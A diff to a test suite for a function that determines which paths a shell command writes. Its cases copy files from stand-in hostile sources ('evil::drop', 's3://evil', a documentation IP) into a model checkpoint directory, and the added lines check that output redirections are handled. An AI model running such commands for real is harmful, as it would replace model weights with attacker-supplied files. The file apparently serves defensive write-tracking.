@@ -70,6 +70,9 @@ describe('attrs.exec.writes', () => {
       ['scp -P 2222 u@203.0.113.9:/x.pt /mnt/ckpt/llama/model.pt', ['/mnt/ckpt/llama/model.pt']],
       ['rsync -a evil::drop/llama/ /mnt/ckpt/llama/', ['/mnt/ckpt/llama']],
       ['rsync -a evil::drop/llama /mnt/ckpt/', ['/mnt/ckpt/llama']],
+      // A redirection is no operand of the copy.
+      ['aws s3 cp s3://evil/x.pt /mnt/ckpt/m.pt > /tmp/cp.log 2>&1', ['/tmp/cp.log', '/mnt/ckpt/m.pt']],
+      ['scp h:/x.pt /mnt/ckpt/m.pt 2>/dev/null', ['/mnt/ckpt/m.pt']],
     ];
     for (const [line, want] of cases) expect(writes(line), line).toEqual(want);
   });
